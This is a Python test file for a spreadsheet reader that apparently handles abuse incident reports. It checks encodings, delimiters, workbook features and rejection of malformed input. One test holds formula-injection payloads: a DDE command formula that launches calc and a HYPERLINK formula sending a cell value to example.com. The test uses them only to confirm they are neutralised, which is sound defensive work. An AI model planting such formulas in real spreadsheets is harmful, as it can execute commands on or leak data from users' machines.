"""Bytes → cells: encodings, delimiters, workbooks, formulas; or a named error."""

import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.styles import Font

from node.core.sheets.cells import text_cell
from node.core.sheets.errors import SheetError, SheetUnreadable
from node.core.sheets.reading import read_sheet
from node.core.sheets.rows import read_rows
from tests.node.sheets.builders import TODAY, a_row, a_sheet, read, workbook


@pytest.mark.parametrize(
    ("encoding", "delimiter", "said"),
    [
        ("utf-8-sig", ",", "utf-8-sig"),
        ("cp1252", ";", "cp1252"),
        ("utf-16", "\t", "utf-16"),
        ("utf-16-le", "|", "utf-16-le"),
        ("utf-8", "\t", "utf-8"),
    ],
)
def test_encoding_and_delimiter_are_found_and_said(encoding: str, delimiter: str, said: str) -> None:
    data = a_sheet(
        a_row(notes="café – “her brother’s”", where="Hull; city, centre"), delimiter=delimiter, encoding=encoding
    )
    source = read_sheet(data, "x.csv")
    assert source.encoding == said
    assert source.delimiter == delimiter
    assert source.worksheets[0].records[1].cells[-1].text == "café – “her brother’s”"


def test_row_numbers_count_records_and_not_lines() -> None:
    data = a_sheet(a_row(what="He hit her\ntwice\nand ran"), [], a_row(ref="2", incident="1/5/26"))
    assert [(row.number, row.status) for row in read(data)] == [(2, "report"), (3, "empty"), (4, "report")]


@pytest.mark.parametrize(
    "data",
    [b"", b"   \n ", b"%PDF-1.7 x", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", b"PK\x03\x04broken", b"\xff\xfe\x00"],
)
def test_what_is_no_sheet_is_refused_by_name(data: bytes) -> None:
    with pytest.raises(SheetUnreadable) as caught:
        read_sheet(data, "x.csv")
    assert caught.value.code.startswith("sheet.")


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_are_rows_or_a_named_error(data: bytes) -> None:
    try:
        result = read_rows(data, "any.csv", None, TODAY)
    except SheetError as error:
        assert error.code
        return
    assert all(row.status for row in result.rows)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.text(max_size=40), min_size=15, max_size=15), max_size=5))
def test_every_row_of_any_text_is_accounted_for_once(rows: list[list[str]]) -> None:
    data = a_sheet(a_row(), *[[cell.replace("\x00", "") for cell in row] for row in rows])
    source = read_sheet(data, "x.csv")
    result = read_rows(data, "x.csv", None, TODAY)
    numbers = [row.number for row in result.rows] + [line.number for line in result.aside]
    assert sorted(numbers) == [record.number for record in source.worksheets[0].records]


def test_a_formula_does_nothing_and_shows_only_its_friendly_text() -> None:
    assert text_cell('=HYPERLINK("http://example.com/?x="&P24,"profile_zz1")').text == "profile_zz1"
    assert text_cell("=cmd|' /C calc'!A0").text == ""
    assert text_cell("=cmd|' /C calc'!A0").raw == "=cmd|' /C calc'!A0"
    assert text_cell("@SUM(1+9)*cmd|").formula
    assert text_cell("+Astra (white)").text == "Astra (white)"
    assert text_cell("+447700900123").text == "+447700900123"


def test_a_workbook_keeps_comments_dates_struck_text_hidden_rows_and_hidden_sheets() -> None:
    def fill(book: object) -> None:
        sheet = book.active  # type: ignore[attr-defined]
        sheet.append(["a", "b", "c"])
        sheet.append([datetime.date(2026, 7, 4), 7700900123, "struck"])
        sheet["A2"].comment = Comment("her sister Elin", "x")
        sheet["C2"].font = Font(strike=True)
        sheet["B3"] = CellRichText((TextBlock(InlineFont(strike=True), "Y"), " N"))
        sheet.row_dimensions[3].hidden = True
        book.create_sheet("Old").sheet_state = "hidden"  # type: ignore[attr-defined]

    source = read_sheet(workbook(fill), "x.xlsx")
    first = source.worksheets[0].records[1].cells
    assert first[0].day == datetime.date(2026, 7, 4)
    assert first[0].comment == "her sister Elin"
    assert first[1].text == "7700900123"
    assert (first[2].text, first[2].raw, first[2].struck) == ("", "struck", True)
    assert source.worksheets[0].records[2].hidden
    assert source.worksheets[0].records[2].cells[1].text == "N"
    assert source.worksheets[1].hidden


def test_a_cell_of_twenty_thousand_characters_is_read_whole() -> None:
    long = "he sat outside again. " * 950 + "he left that number again its 07700 900236"
    row = read(a_sheet(a_row(what=long)))[0]
    assert "overlong" in row.flags
    assert "+447700900236" in [found.canonical for found in row.data.identifiers]
